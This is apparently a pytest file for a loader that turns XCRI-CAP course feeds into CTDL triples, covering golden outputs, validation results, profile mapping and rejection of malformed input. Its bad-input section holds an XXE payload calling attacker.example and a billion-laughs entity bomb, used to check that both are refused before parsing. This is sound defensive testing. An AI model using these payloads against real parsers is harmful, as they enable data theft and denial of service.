"""XCRI-CAP feeds as CTDL: real feeds, the LSIP profile, the XCRI/CTDL mapping test, bad input."""

from __future__ import annotations

import socket
import warnings
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from lxml import etree
from pyoxigraph import BlankNode, Literal, NamedNode, Triple

from skillsgap import gate, iris
from skillsgap.errors import SourceError
from skillsgap.loaders import ctdl_jsonld, dfe_geography_lookups, dfe_lars, xcri_cap_feeds
from skillsgap.loaders._ctdl import CETERMS, RDF, SCHEMA, SG, SKOS
from skillsgap.loaders._xcri import XcriTextWarning
from skillsgap.namespaces import XSD
from tests.conftest import assert_matches_golden, bundled, canonical, excerpt, soc2020_groups

FEEDS = excerpt("xcri-cap-feeds")
SCHEMAS = excerpt("xcri-cap-schemas")
EXAMPLE = SCHEMAS / "example1_xcri.xml"
NS = xcri_cap_feeds.NS


def objects(triples: Any, subject: Any, predicate: NamedNode) -> set:
    return {t.object for t in triples if t.subject == subject and t.predicate == predicate}


def subjects_of(triples: Any, predicate: NamedNode, obj: Any) -> set:
    return {t.subject for t in triples if t.predicate == predicate and t.object == obj}


@cache
def reference() -> bytes:
    """SOC 2020 groups and LARS's code lists (LDCS, SSA, levels): what the shapes point at."""
    lars = bundled("dfe-lars")
    known: dict[str, dict[str, str]] = {}
    lists: list[Triple] = []
    for code_list in dfe_lars.CODE_LISTS:
        first = code_list.name not in known
        codes = known.setdefault(code_list.name, {})
        lists.extend(dfe_lars.code_list_triples(lars, code_list, codes, first))
    areas = dfe_geography_lookups.SOURCE.read(bundled("dfe-geography-lookups"))
    return gate.to_ntriples([*soc2020_groups(), *lists, *areas])


def validate(triples: list[Triple]) -> gate.Report:
    return gate.validate(gate.to_ntriples(triples), reference())


def mutated(tmp_path: Path, text: str, name: str = "feed.xml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def example_with(tmp_path: Path, old: str, new: str) -> Path:
    text = EXAMPLE.read_text(encoding="utf-8")
    assert old in text
    return mutated(tmp_path, text.replace(old, new, 1))


def line_of(path: Path, needle: str) -> int:
    """The 1-based line of ``path`` holding ``needle``."""
    lines = path.read_text(encoding="utf-8", errors="replace").splitlines()
    return next(number for number, line in enumerate(lines, 1) if needle in line)


def refusal(path: Path) -> SourceError:
    with pytest.raises(SourceError) as caught:
        xcri_cap_feeds.read_feed(path)
    return caught.value


# --- the excerpt and the full feeds ---------------------------------------------------------------


def test_excerpt_matches_golden() -> None:
    assert_matches_golden(xcri_cap_feeds.read(FEEDS), FEEDS / "expected.nt")


@cache
def full() -> tuple[Triple, ...]:
    return tuple(xcri_cap_feeds.read(bundled("xcri-cap-feeds")))


def test_full_feeds_have_the_courses_and_presentations_the_source_states() -> None:
    triples = full()
    courses = subjects_of(triples, RDF.type, CETERMS.Course)
    offerings = subjects_of(triples, RDF.type, CETERMS.ScheduledOffering)
    assert len(courses) == 965 + 334 + 1
    assert len(offerings) == 1034 + 791 + 1


def test_full_feed_cells_are_found_in_the_triples() -> None:
    """A course, its JACS subject and a presentation's start, read from the XML independently."""
    root = etree.parse(str(bundled("xcri-cap-feeds") / "ou-conversion.xml")).getroot()
    course = root.find("x:provider/x:course", NS)
    assert course is not None
    code = xcri_cap_feeds.typed_identifier(course, "internalid")
    node = iris.course_iri("http://www.open.ac.uk/", code)
    triples = full()
    title = course.findtext("dc:title", namespaces=NS)
    assert objects(triples, node, CETERMS.name) == {Literal(title, language="en")}
    jacs = course.find("dc:subject[@identifier]", NS)
    assert jacs is not None
    concept = iris.code_iri("jacs3", jacs.get("identifier", ""))
    assert objects(triples, concept, SKOS.prefLabel) == {Literal(jacs.text, language="en")}
    start = course.find("x:presentation/mlo:start", NS)
    assert start is not None
    starts = {o for p in objects(triples, node, CETERMS.hasOffering) for o in
              objects(triples, p, SCHEMA.startDate)}  # fmt: skip
    assert Literal(start.get("dtf", ""), datatype=XSD.date) in starts


def test_full_feeds_pass_the_gate_with_one_real_warning() -> None:
    report = validate(list(full()))
    assert report.by_severity()["Violation"] == 0, report.results[:3]
    # Adam Smith College's CCNARL run O1/A ends before it starts, as the feed says.
    assert [(r.severity, r.focus.rsplit("/", 1)[-1]) for r in report.results] == [
        ("Warning", "2012%2F2013%2FCCNARL%2FO1%2FA%2F12>")
    ]


def test_venues_resolve_to_areas_only_where_the_feed_names_one() -> None:
    reader = xcri_cap_feeds.Reader(None)
    list(reader.feed(FEEDS / "adam_smith_charset_issue.xml"))
    assert reader.counts["places in an area"] == 0 and reader.counts["places"] > 0


# --- the LSIP profile and the mapping test -----------------------------------------------------------


def blank_subjects(triples: Any) -> list[Triple]:
    """Every IRI that is a subject (a node the document describes) made a blank node."""
    nodes = {t.subject for t in triples}
    names = {node: BlankNode(f"n{i}") for i, node in enumerate(sorted(nodes, key=str))}
    return [Triple(names.get(t.subject, t.subject), t.predicate, names.get(t.object, t.object))
            for t in set(triples)]  # fmt: skip


def test_xcri_example_and_its_ctdl_translation_give_the_same_graph() -> None:
    """Isomorphic once the nodes each document names (its own IRIs: example.edu, ours) are
    blank: only the names of described nodes differ, every value and reference is equal."""
    from_xcri = xcri_cap_feeds.read_feed(EXAMPLE)
    from_ctdl = ctdl_jsonld.read_document(SCHEMAS / "example1_ctdl_aligned.jsonld")
    assert canonical(blank_subjects(from_xcri)) == canonical(blank_subjects(from_ctdl))


def test_lsip_profile_elements_are_mapped() -> None:
    triples = xcri_cap_feeds.read_feed(EXAMPLE)
    credential = iris.credential_iri("lars-aim", "12345678")
    occupation = next(iter(objects(triples, credential, CETERMS.occupationType)))
    assert objects(triples, occupation, CETERMS.targetNode) == {iris.soc_iri("2020", "6133")}
    assert objects(triples, occupation, SG.linkMethod) == {SG.Stated}
    provider = iris.organisation_iri("123435678")
    assert objects(triples, provider, CETERMS.name) == {Literal("Example College", language="en")}
    taken = {t.object.value for t in triples if t.predicate == SG.placesTaken}
    assert taken == {"25", "20"}


def test_example_passes_the_gate_except_for_its_nine_digit_ukprn() -> None:
    results = validate(xcri_cap_feeds.read_feed(EXAMPLE)).results
    assert {(r.severity, r.message) for r in results} == {
        ("Violation", "a UKPRN is 8 digits starting with 1 (or 9: an ESFA pseudo-UKPRN)")
    }


def test_unknown_soc_career_outcome_is_a_gate_violation(tmp_path: Path) -> None:
    path = example_with(tmp_path, ">6133<", ">6199<")
    results = validate(xcri_cap_feeds.read_feed(path)).results
    assert any(
        r.severity == "Violation" and r.path == str(CETERMS.targetNode) and "6199" in r.value
        for r in results
    )


def test_ukprn_of_the_wrong_form_is_a_gate_violation(tmp_path: Path) -> None:
    path = example_with(tmp_path, "123435678", "12345")
    results = validate(xcri_cap_feeds.read_feed(path)).results
    assert any(r.severity == "Violation" and "UKPRN" in r.message for r in results)
    right = example_with(tmp_path, "123435678", "10012345")
    text = right.read_text().replace("123435678", "10012345")
    ok = validate(xcri_cap_feeds.read_feed(mutated(tmp_path, text, "ok.xml"))).results
    assert not any("UKPRN" in r.message for r in ok)


# --- bad input ------------------------------------------------------------------------------------


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    attempts: list[str] = []

    def refuse(*args: Any, **_kwargs: Any) -> Any:
        attempts.append(repr(args))
        raise OSError("network access in a test")

    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return attempts


XXE = """<?xml version="1.0"?>
<!DOCTYPE catalog [ <!ENTITY xxe SYSTEM "http://attacker.example/secret"> ]>
<catalog xmlns="http://xcri.org/profiles/1.2/catalog"><provider>&xxe;</provider></catalog>
"""
LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<catalog xmlns="http://xcri.org/profiles/1.2/catalog">&lol3;</catalog>
"""


@pytest.mark.parametrize("text", [XXE, LAUGHS], ids=["xxe", "billion-laughs"])
def test_doctype_with_entities_is_refused_before_parsing(
    tmp_path: Path, text: str, no_network: list[str]
) -> None:
    error = refusal(mutated(tmp_path, text))
    assert (error.file, error.row) == ("feed.xml", 2)
    assert "declaring entities" in error.message and error.expected
    assert no_network == []


def test_malformed_xml_names_line_and_column(tmp_path: Path) -> None:
    text = EXAMPLE.read_text(encoding="utf-8").replace("</dc:title>", "</dc:titel>", 1)
    error = refusal(mutated(tmp_path, text))
    line = next(i for i, t in enumerate(text.splitlines(), 1) if "</dc:titel>" in t)
    assert (error.file, error.row) == ("feed.xml", line)
    assert error.column and "malformed XML" in str(error)


@pytest.mark.parametrize("places", ["-5", "twenty"])
def test_places_must_be_a_count(tmp_path: Path, places: str) -> None:
    path = example_with(tmp_path, "<mlo:places>25<", f"<mlo:places>{places}<")
    error = refusal(path)
    assert (error.column, error.got) == ("places", places)
    assert error.row == line_of(path, "<mlo:places>") and "course position-1" in error.message


def test_impossible_date_is_refused(tmp_path: Path) -> None:
    path = example_with(tmp_path, "2022-01-01", "2022-02-30")
    error = refusal(path)
    assert (error.column, error.got, error.expected) == ("start", "2022-02-30", "a real date")
    assert error.row == line_of(path, "2022-02-30")


def test_empty_file_is_refused(tmp_path: Path) -> None:
    assert refusal(mutated(tmp_path, "")).message == "empty file"


def test_errors_are_readable_source_errors(tmp_path: Path) -> None:
    path = example_with(tmp_path, "<mlo:places>25<", "<mlo:places>-1<")
    error = refusal(path)
    where = f"feed.xml, row {line_of(path, '-1<')}, column 'places': not a count of places"
    assert str(error).startswith(where) and "got '-1'" in str(error)


# --- encoding: repaired and reported, never silent -----------------------------------------------


def loaded_with_warnings(path: Path) -> tuple[list[Triple], list[XcriTextWarning]]:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        triples = xcri_cap_feeds.read_feed(path)
    return triples, [w.message for w in caught if isinstance(w.message, XcriTextWarning)]


def test_real_adam_smith_feed_is_clean_utf8() -> None:
    """Its 'charset issue' is not in these bytes: nothing to repair, nothing reported."""
    _triples, found = loaded_with_warnings(FEEDS / "adam_smith_charset_issue.xml")
    assert found == []


def test_mojibake_is_repaired_and_reported(tmp_path: Path) -> None:
    text = (FEEDS / "adam_smith_charset_issue.xml").read_text(encoding="utf-8")
    title = "Networking Advanced Labs"
    assert title in text
    mangled = text.replace(title, "Networking – Advanced Labs".encode().decode("cp1252"))
    path = mutated(tmp_path, mangled)
    triples, found = loaded_with_warnings(path)
    assert Literal("Networking – Advanced Labs", language="en") in {t.object for t in triples}
    assert not any("â€" in str(t.object) for t in triples)
    issue = found[0].issue
    assert (issue.kind, issue.loaded) == ("repaired mojibake", issue.found.replace("â€“", "–"))
    assert issue.where == "course CCNPRL dc:title" and issue.line == line_of(path, "Labs")


def test_bytes_not_utf8_are_read_as_windows_1252_and_reported(tmp_path: Path) -> None:
    data = EXAMPLE.read_bytes().replace(b"Tuition fee", b"Tuition fee \xa3500", 1)
    path = tmp_path / "feed.xml"
    path.write_bytes(data)
    triples, found = loaded_with_warnings(path)
    assert any(str(t.object).startswith('"Tuition fee £500"') for t in triples)
    line = data[: data.index(b"\xa3")].count(b"\n") + 1
    assert [(w.issue.kind, w.issue.line) for w in found] == [
        ("not UTF-8, read as Windows-1252", line)
    ]


def test_unrepairable_text_is_reported_with_its_course_and_field(tmp_path: Path) -> None:
    path = example_with(tmp_path, "Example Learning Opportunity", "Example Learning \ufffd")
    _triples, found = loaded_with_warnings(path)
    assert [(w.issue.kind, w.issue.where) for w in found] == [
        ("unrepairable", "course position-1 dc:title")
    ]


def test_a_load_collects_the_feeds_text_warnings(tmp_path: Path) -> None:
    """ingest keeps the loader's warnings with the candidate (the CLI prints them)."""
    from skillsgap import ingest

    data = tmp_path / "data"
    for sibling in bundled("dfe-lars").parent.iterdir():
        if sibling.is_dir() and sibling.name != "xcri-cap-feeds":
            (data / sibling.name).parent.mkdir(exist_ok=True)
            (data / sibling.name).symlink_to(sibling)
    folder = data / "xcri-cap-feeds"
    folder.mkdir()
    for name in xcri_cap_feeds.SOURCE.files:
        text = (bundled("xcri-cap-feeds") / name).read_text(encoding="utf-8")
        if name == "adam_smith_charset_issue.xml":
            text = text.replace("Advanced Labs", "– Advanced Labs".encode().decode("cp1252"))
        (folder / name).write_text(text, encoding="utf-8")
    candidate = ingest.read_source(xcri_cap_feeds.SOURCE, folder)
    assert candidate.source_warnings and all(
        "repaired mojibake" in text for text in candidate.source_warnings
    )
